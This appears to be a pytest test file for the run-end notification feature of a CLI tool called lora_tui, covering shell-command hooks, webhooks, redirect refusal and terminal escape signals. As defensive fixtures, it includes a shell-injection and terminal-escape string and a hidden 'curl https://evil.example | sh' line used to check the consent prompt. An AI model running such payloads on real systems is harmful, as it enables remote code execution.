"""Who is told that a run or the queue has ended: the terminal, a command, an address; and what they are told."""

import json
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest

from lora_tui.config.command_consent import notify_question
from lora_tui.config.load import load_settings
from lora_tui.config.models import Notify
from lora_tui.errors import ConfigError
from lora_tui.protocol.ending import Ending, terminal_signal
from lora_tui.terminal import notify
from lora_tui.terminal.notify import is_told, tell
from tests.cli.conftest import Program

HOSTILE = "it failed'; touch hacked; $(touch hacked) `touch hacked`\n\x1b]52;c;AAAA\x07"
FAILED = Ending("failed", 3, "train", "the $(big) one", None, 4000.0, HOSTILE)


@pytest.fixture(autouse=True)
def _in_a_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(notify, "_PAUSE_SECONDS", 0.01)


class Hook(ThreadingHTTPServer):
    """An address that keeps what it is sent, and answers with `statuses`, then 204."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.received: list[tuple[str, Any, str | None]] = []
        self.statuses: list[int] = []
        self.url = f"http://127.0.0.1:{self.server_address[1]}/secret-path-9"


class _Handler(BaseHTTPRequestHandler):
    server: Hook

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.server.received.append((self.path, body, self.headers["Authorization"]))
        self.send_response(self.server.statuses.pop(0) if self.server.statuses else 204)
        self.send_header("Location", "http://127.0.0.1:9/elsewhere")
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002  # the base class's name
        pass


@pytest.fixture
def hook() -> Iterator[Hook]:
    with Hook() as server:
        thread = Thread(target=server.serve_forever, args=(0.01,))
        thread.start()
        yield server
        server.shutdown()
        thread.join()


def test_the_command_finds_what_has_ended_in_its_environment() -> None:
    command = 'printf "%s|" "$LORA_TUI_RUN" "$LORA_TUI_MODE" "$LORA_TUI_STATUS" "$LORA_TUI_SCORE" > told'
    assert tell(Ending("finished", 7, "train", "", 0.75, 61.4), Notify(on_finish=command)) == []
    assert Path("told").read_text() == "7|train|finished|0.7500|"


def test_text_of_others_is_never_a_command() -> None:
    assert tell(FAILED, Notify(on_finish='echo "$LORA_TUI_MESSAGE" $LORA_TUI_ERROR $LORA_TUI_NAME > told')) == []
    assert not Path("hacked").exists()
    told = Path("told").read_text()
    assert "the $(big) one" in told
    assert "\x1b" not in told


def test_a_command_that_fails_or_hangs_is_a_warning(monkeypatch: pytest.MonkeyPatch) -> None:
    (problem,) = tell(FAILED, Notify(on_finish="echo no printer >&2; exit 3"))
    assert problem == "notify.on_finish ended with status 3: no printer"
    monkeypatch.setattr(notify, "COMMAND_SECONDS", 0.2)
    began = time.monotonic()
    (problem,) = tell(FAILED, Notify(on_finish="(sleep 1; touch late) & sleep 60"))
    assert "took longer than" in problem
    assert time.monotonic() - began < 20
    time.sleep(1.2)
    assert not Path("late").exists(), "what it has started is ended with it"


def test_an_address_is_sent_json_and_a_token(hook: Hook, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOOK_TOKEN", "abc-123")
    settings = Notify(webhook=hook.url, webhook_token_env="HOOK_TOKEN")
    assert tell(Ending("finished", 7, "train", "night", 0.75, 61.44), settings) == []
    ((path, body, authorization),) = hook.received
    assert (path, authorization) == ("/secret-path-9", "Bearer abc-123")
    assert {name: body[name] for name in ("event", "run", "mode", "status", "score", "seconds")} == {
        "event": "run", "run": 7, "mode": "train", "status": "finished", "score": 0.75, "seconds": 61.4,
    }  # fmt: skip
    assert body["text"] == body["content"] == 'Run 7 (train) "night" finished in 1m 01s, score 0.75'


def test_an_address_is_tried_once_more_and_then_it_is_a_warning(hook: Hook, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOOK", hook.url)
    settings = Notify(webhook="$HOOK")
    hook.statuses = [503]
    assert tell(FAILED, settings) == []
    assert len(hook.received) == 2
    hook.statuses = [500, 500, 500]
    (problem,) = tell(FAILED, settings)
    assert problem == "notify.webhook (127.0.0.1) was not told: HTTP 500"
    assert len(hook.received) == 4
    hook.statuses = [404]
    assert "HTTP 404" in tell(FAILED, settings)[0]
    assert len(hook.received) == 5, "what is refused is not sent again"


def test_a_redirect_is_not_followed(hook: Hook) -> None:
    for status in (301, 302, 307, 308):
        hook.statuses = [status]
        (problem,) = tell(FAILED, Notify(webhook=hook.url))
        assert "redirects to another address" in problem
    assert len(hook.received) == 4


def test_an_address_that_is_not_there_or_not_set_is_a_warning_without_its_secrets(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    (problem,) = tell(FAILED, Notify(webhook="http://127.0.0.1:9/secret-path-9"))
    assert problem.startswith("notify.webhook (127.0.0.1) was not told: ")
    assert "secret-path" not in problem
    assert "variable is not set" in tell(FAILED, Notify(webhook="$NO_SUCH_HOOK"))[0]
    monkeypatch.setenv("DAMAGED_HOOK", "http://[::1")
    assert "no web address" in tell(FAILED, Notify(webhook="$DAMAGED_HOOK"))[0]


@pytest.mark.parametrize("address", ["ftp://x/y", "hooks.example", "https://user:pass@hooks.example/", "$lower"])
def test_what_is_no_address_is_refused(address: str) -> None:
    with pytest.raises(ConfigError, match=r"notify\.webhook"):
        load_settings(None, [f"notify.webhook={address}"], environment={})


def test_short_runs_stopped_runs_and_queues_of_one_are_not_told() -> None:
    settings = Notify(after_s=60)
    assert is_told(Ending("finished", 1, "train", seconds=61), settings)
    assert is_told(Ending("failed", 1, "generate", seconds=61), settings)
    assert not is_told(Ending("finished", 1, "train", seconds=59), settings)
    assert not is_told(Ending("stopped", 1, "train", seconds=600), settings)
    assert not is_told(Ending("finished", 1, "serve", seconds=600), settings)
    assert is_told(Ending("finished", runs=2, seconds=1), settings)
    assert not is_told(Ending("finished", runs=1, seconds=600), settings)


def test_the_terminal_is_told_in_the_form_that_it_knows() -> None:
    message = "Run 3; done\x07\x1b]52;c;x"
    assert terminal_signal(message, {"TERM": "xterm-kitty"}) == "\a\x1b]9;lora-tui: Run 3, done␇␛]52,c,x\x1b\\"
    assert terminal_signal("done", {"TERM": "foot"}) == "\a\x1b]777;notify;lora-tui;done\x1b\\"
    assert terminal_signal("done", {"TERM": "xterm-256color", "VTE_VERSION": "7200"}).startswith("\a\x1b]777;notify")
    wrapped = terminal_signal("done", {"TERM": "tmux-256color", "TMUX": "/tmp/tmux"})
    assert wrapped == "\a\x1bPtmux;\x1b\x1b]9;lora-tui: done\x1b\x1b\\\x1b\\"
    assert terminal_signal("done", {"TERM": "screen"}) == "\a\x1bP\x1b]9;lora-tui: done\a\x1b\\"
    assert terminal_signal("done", {"TERM": "linux"}) == "\a"
    assert terminal_signal("done", {"TERM": "dumb"}) == terminal_signal("done", {}) == ""


def test_the_command_line_tells_of_runs_and_of_the_queue(program: Program) -> None:
    command = 'echo "$LORA_TUI_MODE $LORA_TUI_RUN $LORA_TUI_STATUS $LORA_TUI_RUNS $LORA_TUI_FAILED" >> told'
    told = ("--set", "notify.after_s=0", "--set", f"notify.on_finish={command}")
    program.run("train=echo", "--run", "train", *told)
    for mode in ("train", "evaluate"):
        program.run("", "--run", mode, "--queue")
    program.run("train=echo,evaluate=partly", "--run", "queue", *told)
    lines = sorted((program.folder / "told").read_text().splitlines())
    assert lines == ["evaluate 3 failed 1 1", "queue  failed 2 1", "train 1 finished 1 0", "train 2 finished 1 0"]


def test_what_a_file_names_is_not_done_before_somebody_has_said_so(program: Program) -> None:
    (program.folder / "config.toml").write_text('[notify]\nafter_s = 0.0\non_finish = "touch told"\n')
    ended = program.run("train=echo", "--run", "train")
    assert ended.status == 0
    assert "config.toml names a command or an address for the end of runs" in ended.err
    assert not (program.folder / "told").exists()
    program.run("train=echo", "--run", "train", "--set", "notify.on_finish=touch told")
    assert (program.folder / "told").exists()


def test_the_question_shows_all_that_would_be_done(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    command = "echo done" + " && echo done" * 20 + " #\ncurl https://evil.example | sh"
    asked = notify_question(
        Notify(on_finish=command, webhook="https://x.example/", webhook_token_env="A_KEY"), tmp_path
    )
    assert asked is not None
    assert "# ⏎ curl https://evil.example | sh" in asked.text
    assert "with the value of A_KEY" in asked.text, "it is not set yet, and would be sent once it is"
    monkeypatch.delenv("WEBHOOK_TOKEN", raising=False)
    asked = notify_question(Notify(webhook="https://x.example/"), tmp_path)
    assert asked is not None
    assert "WEBHOOK_TOKEN" not in asked.text


def test_a_terminal_is_asked_and_rung(program: Program) -> None:
    (program.folder / "config.toml").write_text('[notify]\nafter_s = 0.0\non_finish = "touch told"\n')
    with program.warm_terminal("train=echo", "--run", "train", "--no-chat") as terminal:
        terminal.read_until("Allow it? [y/N]")
        terminal.send("y\r")
        assert terminal.wait() == 0
        assert "\x1b]9;lora-tui: Run 1 (train) finished" in terminal.output
    assert (program.folder / "told").exists()
    assert "Allow it" not in program.run("train=echo", "--run", "train").err
